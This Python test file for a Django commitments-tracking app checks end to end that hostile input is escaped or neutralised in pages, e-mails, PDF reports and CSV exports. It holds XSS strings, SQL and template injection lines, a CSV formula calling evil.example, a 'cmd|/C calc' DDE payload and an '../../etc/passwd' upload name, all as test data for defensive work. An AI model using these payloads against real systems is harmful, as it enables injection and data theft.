"""Hostile input through every door, followed to every place it is shown (issue 8 §5).

Already covered elsewhere and not repeated here: the API's fuzzing of query parameters, paths,
headers and write bodies (tests/api/test_errors.py, tests/api/test_writes.py), hostile names on the
dashboard and in a built paper (tests/dashboard), the timeline's escaping (tests/ui/test_pages.py),
the import's file type, size and shape checks (tests/ui/test_import.py), a digest's text
(tests/jobs/test_notifications.py), each export's formula-safe function on its own.

Added here, end to end:

- the same hostile note, reason and evidence sent through the browser form, the API and the
  spreadsheet import is stored as text (control characters removed, nothing else changed), shown
  escaped on the commitment page and returned unchanged by the API;
- an action added through the form with a hostile description, then made overdue, prints as text
  in the escalation e-mail (subject, HTML and plain text) and in the committee report built through
  its page (HTML and PDF, read back with pdftotext);
- spreadsheet formulas written through the form and the API are neutralised in every export: the
  API's CSV lists, the import template, every dashboard table;
- a table of malformed values for every field of every browser form: a field error, never a 500,
  and nothing saved; uploads that are not UTF-8 or cp1252 text, and request bodies past Django's
  size and field-count limits.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core import mail
from django.test import Client
from django.utils.html import escape

from commitments import notifications, overdue
from commitments.models import Action, Obligation, Report, StatusUpdate
from commitments.services import _clean_text

from ..conftest import token_client
from ..factories import ActionFactory, BoardFactory, MeetingFactory
from .conftest import snapshot

pytestmark = pytest.mark.django_db

# One line each, so every line can be looked for in a page on its own.
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.domain)>',
    "' onmouseover='alert(1)' x='",
    "</textarea><svg/onload=alert(1)>",
    "'; DROP TABLE commitments_statusupdate; --",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "invoice\u202egpj.exe and \u2066isolated\u2069 text",  # right-to-left override, bidi isolates
    "bell\x07 escape\x1b[31m nul-free controls\x0b\x0c",
    "進捗 ✅ 🎉 Zoë ﬁ",
]
NOTE = "\n".join(PAYLOADS)
REASON = '<b>bold</b> & "quoted"'
EVIDENCE = ["javascript:alert(1)", 'https://example.org/a"><script>alert(2)</script>', "data:text/html,<script>alert(3)</script>"]
RAW_MARKUP = ("<script>alert", "<img src=x", "onmouseover='alert", "<svg/onload", "<b>bold</b>", 'href="javascript:', 'href="data:')


def cleaned(text: str) -> str:
    return _clean_text(text)


def assert_shown_escaped(html: str, *, reason: bool = True) -> None:
    """Every payload line appears as escaped text; none of it as markup; no template ran."""
    for raw in RAW_MARKUP:
        assert raw not in html, raw
    for line in cleaned(NOTE).split("\n"):
        assert escape(line) in html, line
    if reason:
        assert escape(REASON) in html
    assert django_settings.SECRET_KEY not in html


def send_through(door: str, *, client: Client, obligation: Obligation, action: Action, api: Any) -> None:
    if door == "form":
        response = client.post(
            f"/obligations/{obligation.pk}/update/",
            {"version": obligation.version, "status": obligation.status, "note": NOTE, "reason": REASON, "evidence": "\n".join(EVIDENCE)},
        )
        assert response.status_code == 302, response.content[:500]
    elif door == "api":
        body = {"note": NOTE, "reason": REASON, "evidence": EVIDENCE, "version": obligation.version}
        response = api.post(f"/api/v1/obligations/{obligation.pk}/updates/", body, format="json")
        assert response.status_code == 201, response.content[:500]
    else:
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["action_id", "version", "note", "reason", "evidence"])
        writer.writerow([action.pk, action.version, NOTE, REASON, "|".join(EVIDENCE)])
        upload = io.BytesIO(out.getvalue().encode())
        upload.name = "hostile.csv"
        preview = client.post("/import/", {"file": upload})
        assert preview.status_code == 200
        assert_shown_escaped(preview.content.decode(), reason=False)  # the preview shows the notes, escaped too
        token = re.search(rb'name="token" value="([^"]+)"', preview.content)
        assert token, preview.content.decode()[:2000]
        assert client.post("/import/confirm/", {"token": token.group(1).decode()}).status_code == 302


@pytest.mark.parametrize("door", ["form", "api", "import"])
def test_hostile_text_is_stored_as_text_and_shown_escaped(door: str, obligation: Any, officer: Any, write_token: str) -> None:
    action = ActionFactory(obligation=obligation)
    client = Client()
    client.force_login(officer)
    api = token_client(write_token)

    send_through(door, client=client, obligation=obligation, action=action, api=api)

    update = StatusUpdate.objects.get()
    assert update.note == cleaned(NOTE)  # control characters gone, every other character kept
    assert "\x07" not in update.note and "\x1b" not in update.note and "\u202e" in update.note
    assert update.reason == REASON and update.evidence == EVIDENCE
    assert api.get(f"/api/v1/status-updates/{update.pk}/").json()["note"] == update.note
    page = client.get(f"/commitments/{obligation.commitment.ref}/").content.decode()
    assert_shown_escaped(page)
    assert '<a class="govuk-link" href="https://example.org/a&quot;&gt;&lt;script&gt;' in page  # the only link, its URL escaped


# --- into e-mails and the committee report --------------------------------------------------------

DESCRIPTION = '<script>alert("x")</script> \u202eRLO =HYPERLINK("http://evil.example","Click") & co'


def pdf_text(data: bytes, tmp_path: Path) -> str:
    path = tmp_path / "paper.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True, text=True).stdout


def test_a_hostile_action_prints_as_text_in_the_escalation_email_and_the_committee_report(
    obligation: Any, officer: Any, secretary: Any, write_token: str, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    today = dt.date.today()
    client = Client()
    client.force_login(officer)
    late = today - dt.timedelta(days=10)
    response = client.post(
        f"/obligations/{obligation.pk}/actions/add/",
        {"description": DESCRIPTION + "\x07", "due_date-day": late.day, "due_date-month": late.month, "due_date-year": late.year},
    )
    assert response.status_code == 302
    action = Action.objects.get()
    assert action.description == DESCRIPTION  # the control character is gone, the rest is kept
    api = token_client(write_token)
    body = {"status": "in_progress", "reason": REASON + " <script>alert(9)</script>", "note": "n", "version": action.version}
    assert api.post(f"/api/v1/actions/{action.pk}/updates/", body, format="json").status_code == 201

    # The overdue pass tells the party's officer; the e-mail carries the description as text.
    overdue.flag_overdue(today=today)
    assert notifications.deliver_outbox()["sent"] == 1
    (message,) = mail.outbox
    assert "\n" not in message.subject and "\r" not in message.subject and "\x07" not in message.subject
    assert "<script>" in message.subject  # a subject is plain text: shown, never run
    html = message.alternatives[0][0]
    assert "<script>" not in html and escape(DESCRIPTION) in html
    assert DESCRIPTION in message.body  # the plain-text part is text already, not HTML-escaped

    # The committee report, built through its page (the build runs in this process).
    settings.CELERY_TASK_ALWAYS_EAGER = True
    lc = BoardFactory(code="LC", slug="leaders-committee", name="Leaders' Committee", kind="committee")
    meeting = MeetingFactory(board=lc, date=today + dt.timedelta(days=7))
    builder = Client()
    builder.force_login(secretary)
    with django_capture_on_commit_callbacks(execute=True):
        assert builder.post(f"/meetings/{meeting.pk}/build/").status_code == 302
    report = Report.objects.get(meeting=meeting)
    assert report.state == Report.State.READY, report.error
    paper = builder.get(f"/meetings/reports/{report.pk}/").content.decode()
    for raw in ("<script>alert", "<b>bold</b>"):
        assert raw not in paper
    assert escape(DESCRIPTION) in paper and escape(REASON) in paper
    pdf = b"".join(builder.get(f"/meetings/reports/{report.pk}/pdf/").streaming_content)
    text = "".join(pdf_text(pdf, tmp_path).split())
    for literal in ('<script>alert("x")</script>', "<b>bold</b>&", "<script>alert(9)</script>"):
        assert literal in text, literal  # printed as the characters typed


# --- exports --------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200, body[:300]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_formulas_typed_anywhere_are_neutralised_in_every_export(obligation: Any, officer: Any, write_token: str) -> None:
    client = Client()
    client.force_login(officer)
    api = token_client(write_token)
    past = dt.date.today() - dt.timedelta(days=3)
    for formula in FORMULAS[:3]:
        response = client.post(
            f"/obligations/{obligation.pk}/actions/add/",
            {"description": formula, "due_date-day": past.day, "due_date-month": past.month, "due_date-year": past.year},
        )
        assert response.status_code == 302
    for formula in FORMULAS:
        version = Obligation.objects.get(pk=obligation.pk).version
        body = {"note": formula, "reason": formula, "evidence": [formula], "status": "in_progress", "version": version}
        assert api.post(f"/api/v1/obligations/{obligation.pk}/updates/", body, format="json").status_code in (201, 400)

    exports = {
        "API status updates": api.get("/api/v1/status-updates/?format=csv"),
        "API actions": api.get("/api/v1/actions/?format=csv"),
        "API obligations": api.get("/api/v1/obligations/?format=csv"),
        "import template": client.get("/import/template.csv"),
    }
    dashboard = client.get("/dashboard/").content.decode()
    tables = sorted(set(re.findall(r"format=csv&amp;table=([a-z_\-]+)", dashboard)))
    assert len(tables) >= 5, tables
    for table in tables:
        exports[f"dashboard {table}"] = client.get(f"/dashboard/?format=csv&table={table}")

    seen = set()
    for name, response in exports.items():
        for row in read_csv(response):
            for cell in row:
                assert not cell.startswith(TRIGGERS), (name, cell)
                if cell.startswith("'") and cell[1:].startswith(("=HYPERLINK", "+1+1", "-2+3", "@SUM", "=1+1")):
                    seen.add(name)  # a payload that begins the cell, neutralised
    # The payloads really reached these exports (so the check above looked at them).
    assert {"API status updates", "API actions", "import template"} <= seen, seen
    assert any(name.startswith("dashboard") for name in seen), seen


# --- malformed values in every form ---------------------------------------------------------------

BAD_NUMBERS = ["abc", "-1", "101", "1.5", "1e3", "0x10", "9" * 30, "\x00", " 50 50", "NaN", "<script>"]
BAD_DAYS = [("32", "1", "2030"), ("29", "2", "2027"), ("1", "13", "2030"), ("1", "1", "99"), ("1", "1", "20300"), ("a", "b", "c"),
            ("-1", "1", "2030"), ("1", "", "2030"), ("", "", "2030"), ("1", "1", "1066"), ("1", "1", "9999"), ("\x00", "1", "2030")]  # fmt: skip
BAD_TEXT = ["x" * 5001, "bad\x00byte"]


def update_form_cases() -> list[tuple[str, dict[str, Any]]]:
    cases: list[tuple[str, dict[str, Any]]] = []
    cases += [(f"version={v!r}", {"version": v}) for v in ["", "abc", "0", "-3", "1.5", "9" * 30, "\x00"]]
    cases += [(f"progress={v!r}", {"progress": v}) for v in BAD_NUMBERS]
    cases += [(f"status={v!r}", {"status": v}) for v in ["", "done", "COMPLETE", "<script>", "\x00"]]
    cases += [(f"rag={v!r}", {"rag": v}) for v in ["purple", "RED", "\x00"]]
    cases += [
        (f"date={d!r}", {"revised_due_date-day": d[0], "revised_due_date-month": d[1], "revised_due_date-year": d[2], "reason": "r"})
        for d in BAD_DAYS
    ]
    cases += [(f"note={v[:12]!r}", {"note": v}) for v in BAD_TEXT]
    cases += [(f"reason={v[:12]!r}", {"reason": v, "status": "complete"}) for v in BAD_TEXT]
    cases += [("evidence: 21 items", {"evidence": "\n".join(f"e{i}" for i in range(21))}), ("evidence: too long", {"evidence": "e" * 2001})]
    cases += [("complete without evidence", {"status": "complete", "reason": "done"})]
    return cases


def add_action_cases() -> list[tuple[str, dict[str, Any]]]:
    cases: list[tuple[str, dict[str, Any]]] = [(f"description={v[:12]!r}", {"description": v}) for v in ["", "   ", *BAD_TEXT]]
    cases += [(f"due={d!r}", {"due_date-day": d[0], "due_date-month": d[1], "due_date-year": d[2]}) for d in BAD_DAYS]
    cases += [(f"owner={v!r}", {"owner": v}) for v in ["abc", "-1", "99999999999999999999", "\x00", "OTHER"]]
    return cases


UPDATE_CASES = update_form_cases()
ADD_CASES = add_action_cases()
OTHER_CASES = [
    ("notifications", "/notifications/", {"digests": v}) for v in ["", "maybe", "YES", "\x00", "<script>"]
] + [
    ("sign in", "/accounts/login/", {"username": u, "password": p})
    for u, p in [("x" * 5000, "p"), ("\x00", "p"), ("alice", "\x00"), ("", ""), ("alice'--", "' OR 1=1 --")]
] + [
    ("password change", "/accounts/password/change/", {"old_password": "\x00", "new_password1": "n", "new_password2": "m"}),
    ("password change", "/accounts/password/change/", {"old_password": "correct-horse-battery", "new_password1": "\x00" * 20, "new_password2": "\x00" * 20}),
    ("import confirm", "/import/confirm/", {"token": "\x00"}),
    ("import confirm", "/import/confirm/", {"token": "t" * 5000}),
]  # fmt: skip
BAD_INPUTS_TRIED = len(PAYLOADS) + 1 + len(EVIDENCE) + len(FORMULAS) + len(UPDATE_CASES) * 3 + len(ADD_CASES) + len(OTHER_CASES)


def assert_refused(response: Any, before: dict[str, Any], what: str) -> None:
    assert response.status_code in (200, 302, 400, 409), (what, response.status_code)
    if response.status_code in (200, 400) and b"<form" in response.content:
        assert b"govuk-error-summary" in response.content or b"There is a problem" in response.content, what
    assert snapshot() == before, f"{what}: something was saved"


@pytest.mark.parametrize("target", ["obligation", "action", "commitment"])
def test_no_malformed_value_in_an_update_form_is_a_500_or_saved(target: str, obligation: Any, officer: Any, secretary: Any) -> None:
    action = ActionFactory(obligation=obligation)
    client = Client(raise_request_exception=False)
    client.force_login(secretary)  # the lead board's secretariat may use all three forms
    item, url = {
        "obligation": (obligation, f"/obligations/{obligation.pk}/update/"),
        "action": (action, f"/actions/{action.pk}/update/"),
        "commitment": (obligation.commitment, f"/commitments/{obligation.commitment.ref}/update/"),
    }[target]
    valid = {"version": item.version, "status": item.status, "rag": item.rag, "progress": item.progress, "note": "ok"}
    before = snapshot()
    for what, bad in UPDATE_CASES:
        assert_refused(client.post(url, {**valid, **bad}), before, f"{target} {what}")
    assert client.post(url, valid).status_code == 302  # and the form still works


def test_no_malformed_value_in_the_add_action_form_is_a_500_or_saved(obligation: Any, officer: Any, other_officer: Any) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    url = f"/obligations/{obligation.pk}/actions/add/"
    valid = {"description": "A step", "due_date-day": "1", "due_date-month": "6", "due_date-year": "2031"}
    before = snapshot()
    for what, bad in ADD_CASES:
        bad = {k: (str(other_officer.pk) if v == "OTHER" else v) for k, v in bad.items()}  # not an officer of this party
        assert_refused(client.post(url, {**valid, **bad}), before, what)
    assert client.post(url, valid).status_code == 302


def test_no_malformed_value_in_the_other_forms_is_a_500_or_saved(officer: Any, obligation: Any) -> None:
    signed_in = Client(raise_request_exception=False)
    signed_in.force_login(officer)
    anonymous = Client(raise_request_exception=False)
    before = snapshot()
    for name, url, data in OTHER_CASES:
        client = anonymous if name == "sign in" else signed_in
        assert_refused(client.post(url, data), before, f"{name} {data!r:.60}")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"action_id,version,note\n1,1,\x81\x8d\x8f\x90\x9d\n", "could not be read as text"),  # neither UTF-8 nor cp1252
        (b"\xff\xfe" + "action_id,version\n1,1\n".encode("utf-16-le"), "is not a CSV file"),  # UTF-16 "CSV"
        (b'action_id,version,note\n1,1,"unterminated\n', None),  # an open quote: a row error or a file error, never a 500
        (b"action_id,version\n" + b"1,1\n" * 501, "more than 500 rows"),
    ],
)
def test_uploads_that_are_not_readable_text_get_a_clear_error(content: bytes, message: str | None, officer: Any) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    upload = io.BytesIO(content)
    upload.name = "../../etc/passwd.csv"
    before = snapshot()
    response = client.post("/import/", {"file": upload})
    assert response.status_code == 200
    if message:
        assert message in response.content.decode()
    assert snapshot() == before and "commitments.import" not in client.session


def test_bodies_past_the_size_and_field_limits_are_400_not_500(obligation: Any, officer: Any) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    url = f"/obligations/{obligation.pk}/update/"
    before = snapshot()
    huge = client.post(url, {"version": obligation.version, "status": obligation.status, "note": "x" * (3 * 1024 * 1024)})
    assert huge.status_code == 400
    many = client.post(url, {f"f{i}": "x" for i in range(1200)} | {"version": obligation.version})
    assert many.status_code == 400
    assert snapshot() == before


def test_the_count_of_bad_inputs_tried_is_what_the_docs_say() -> None:
    """docs/reliability.md quotes this figure; keep the two in step."""
    doc = (Path(django_settings.BASE_DIR) / "docs" / "reliability.md").read_text()
    assert f"{BAD_INPUTS_TRIED} hostile or malformed inputs" in doc, BAD_INPUTS_TRIED
